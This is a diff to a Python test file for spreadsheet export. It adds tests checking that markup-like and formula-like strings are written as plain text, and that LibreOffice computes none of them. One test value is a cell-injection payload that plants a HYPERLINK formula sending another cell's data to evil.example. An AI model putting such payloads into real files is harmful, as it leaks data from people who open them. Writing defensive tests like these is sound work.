@@ -2,6 +2,7 @@
 
 import io
 import zipfile
+from pathlib import Path
 
 import pytest
 from lxml import etree
@@ -9,8 +10,16 @@ from openpyxl import load_workbook
 
 from app.services.exports.book import Book
 from tests.services.exports.files import row, rows_of, written, xlsx_rows
+from tests.services.exports.libreoffice import first_column
 
 FORMULAS = ["=1+1", "{=1+1}", "@SUM(A1)", "http://example.org", "123", "-1", "=HYPERLINK(1)"]
+# XlsxWriter takes what begins and ends so for XML of its own making.
+MARKUP = [
+    "<r>Tom & Jerry</r>",
+    "<r><t>Oui.</t></r>",
+    '<r><t>x</t></r></is></c><c r="H2"><f>HYPERLINK("http://evil.example/?"&amp;B2,"Cliquez")</f></c>'
+    '<c r="I2" t="inlineStr"><is><r><t>x</t></r>',
+]
 
 
 def test_what_looks_like_a_formula_a_link_or_a_number_is_text() -> None:
@@ -23,6 +32,19 @@ def test_what_looks_like_a_formula_a_link_or_a_number_is_text() -> None:
     )
     assert b"<f>" not in content
     assert b"hyperlink" not in content
+
+
+@pytest.mark.parametrize("text", MARKUP)
+def test_what_looks_like_markup_is_text(text: str) -> None:
+    sheet = load_workbook(io.BytesIO(written("xlsx", rows_of(text), ["normalized", "page"]))).active
+    assert [[cell.value for cell in line] for line in sheet.iter_rows(min_row=2)] == [[text, 3]]
+    assert sheet["A2"].data_type == "s"
+
+
+def test_libreoffice_shows_the_same_texts_and_computes_none(tmp_path: Path) -> None:
+    texts = [*FORMULAS, *MARKUP, "_x0041_", "_x0041_x0042_", "_x0041\x01", "_x000D_", "a\rb", "\ufffe\uffff"]
+    texts += ["  bords  ", "é" * 32_767, "👩‍👧 مرحبا"]
+    assert first_column(written("xlsx", rows_of(*texts), ["normalized"]), "xlsx", tmp_path / "ours") == texts
 
 
 def test_the_header_is_bold_and_stays_in_view() -> None:
